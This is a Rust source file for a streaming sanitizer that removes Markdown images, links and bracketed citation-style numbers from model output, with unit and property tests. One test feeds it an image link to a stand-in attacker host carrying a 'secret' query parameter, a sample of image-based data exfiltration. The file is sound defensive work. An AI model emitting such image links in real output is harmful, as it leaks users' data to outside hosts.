//! A model's text to the subset of Markdown that clients are promised: no images, no links, no forged markers.
//!
//! Works on a stream: what may become a link or a marker is held back until it is decided, and nothing else is.

/// The longest that a bracket is held back, in characters. A longer one is no link that a person wrote.
const LONGEST_HELD: usize = 2_000;

/// What stands for a bracket around brackets: once those are removed, it could close over a number that is left.
const HARMLESS: char = '(';

/// Removes links, images and numbers in brackets from a text that comes in pieces.
#[derive(Debug, Default)]
pub struct Cleaner {
    held: String,
}

impl Cleaner {
    /// Takes the next piece and gives the text that is decided.
    pub fn push(&mut self, piece: &str) -> String {
        self.held.push_str(piece);
        self.decided(More::MayCome)
    }

    /// Gives what is held back, as it is at the end of the text.
    pub fn finish(&mut self) -> String {
        self.decided(More::NoMore)
    }

    fn decided(&mut self, more: More) -> String {
        let mut clean = String::new();
        loop {
            let Some(open) = self.held.find(['[', '!']) else {
                clean.push_str(&self.held);
                self.held.clear();
                return clean;
            };
            clean.push_str(&self.held[..open]);
            self.held.drain(..open);
            match decide(&self.held, more) {
                Some((length, text)) => {
                    clean.push_str(&text);
                    self.held.drain(..length);
                }
                None if self.held.chars().count() > LONGEST_HELD => {
                    let first = self.held.remove(0);
                    clean.push(if first == '[' { HARMLESS } else { first });
                }
                None => return clean,
            }
        }
    }
}

/// Whether the text may go on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum More {
    MayCome,
    NoMore,
}

/// What the beginning of a text, `[` or `!`, turns out to be: how many bytes it takes and what remains of them.
/// `None` while that is open.
fn decide(held: &str, more: More) -> Option<(usize, String)> {
    let image = held.starts_with('!');
    let bracket = usize::from(image);
    match held[bracket..].chars().next() {
        None if more == More::MayCome => return None,
        None => return Some((1, "!".to_owned())),
        Some('[') => {}
        Some(_) => return Some((1, "!".to_owned())),
    }
    let label_end = match close(&held[bracket..], '[', ']') {
        Close::At(end) => bracket + end,
        Close::Open if more == More::MayCome => return None,
        Close::Never | Close::Open => return Some((1, held[..1].to_owned())),
    };
    let label = &held[bracket + 1..label_end];
    let target = match held[label_end + 1..].chars().next() {
        None if more == More::MayCome => return None,
        None => None,
        Some('(') => match close(&held[label_end + 1..], '(', ')') {
            Close::At(end) => Some(label_end + 1 + end),
            Close::Open if more == More::MayCome => return None,
            Close::Never | Close::Open => None,
        },
        Some(_) => None,
    };
    if let Some(end) = target {
        let text = if image { String::new() } else { Cleaner::default().whole(label) };
        return Some((end + 1, text));
    }
    let number = label.contains(|letter: char| letter.is_ascii_digit())
        && label.chars().all(|letter| letter.is_ascii_digit() || ", ^".contains(letter));
    if number || image {
        return Some((label_end + 1, String::new()));
    }
    let nested = label.contains('[');
    Some((1, if nested { HARMLESS } else { '[' }.to_string()))
}

impl Cleaner {
    fn whole(mut self, text: &str) -> String {
        let mut clean = self.push(text);
        clean.push_str(&self.finish());
        clean
    }
}

enum Close {
    At(usize),
    Never,
    Open,
}

/// Where the bracket at the beginning closes. A line end closes none.
fn close(text: &str, open: char, close: char) -> Close {
    let mut depth = 0;
    for (at, letter) in text.char_indices() {
        if letter == open {
            depth += 1;
        } else if letter == close {
            depth -= 1;
            if depth == 0 {
                return Close::At(at);
            }
        } else if letter == '\n' {
            return Close::Never;
        }
    }
    Close::Open
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn clean(text: &str) -> String {
        Cleaner::default().whole(text)
    }

    #[test]
    fn images_vanish_and_links_keep_their_words() {
        assert_eq!(clean("see ![x](https://evil.example/?q=secret) here"), "see  here");
        assert_eq!(clean("see [the rule](https://evil.example)."), "see the rule.");
        assert_eq!(clean("[![x](https://a.example)](https://b.example)!"), "!");
    }

    #[test]
    fn a_forged_marker_vanishes() {
        assert_eq!(clean("15일[1], 20일 [2, 3]"), "15일, 20일 ");
    }

    #[test]
    fn other_brackets_stay() {
        assert_eq!(clean("- [ ] todo [sic] wow! a[i] = 1"), "- [ ] todo [sic] wow! a[i] = 1");
        assert_eq!(clean("[[1]2] [[](x)3]"), "(2] (3]");
        assert_eq!(clean("an open [bracket"), "an open [bracket");
        assert_eq!(clean("[\n1]"), "[\n1]");
    }

    proptest! {
        #[test]
        fn it_does_not_matter_how_the_text_is_cut(text in "[\\[\\]()!a1 \n]{0,40}", cuts in prop::collection::vec(1_usize..5, 1..40)) {
            let mut cleaner = Cleaner::default();
            let mut pieces = String::new();
            let mut rest = text.as_str();
            for cut in cuts {
                let cut = cut.min(rest.len());
                pieces.push_str(&cleaner.push(&rest[..cut]));
                rest = &rest[cut..];
            }
            pieces.push_str(&cleaner.push(rest));
            pieces.push_str(&cleaner.finish());
            prop_assert_eq!(pieces, clean(&text));
        }

        #[test]
        fn no_marker_is_left(text in "[\\[\\]()!12a ]{0,40}") {
            let clean = clean(&text);
            for number in ["[1]", "[2]", "[12]"] {
                prop_assert!(!clean.contains(number), "{} from {}", clean, text);
            }
        }
    }
}
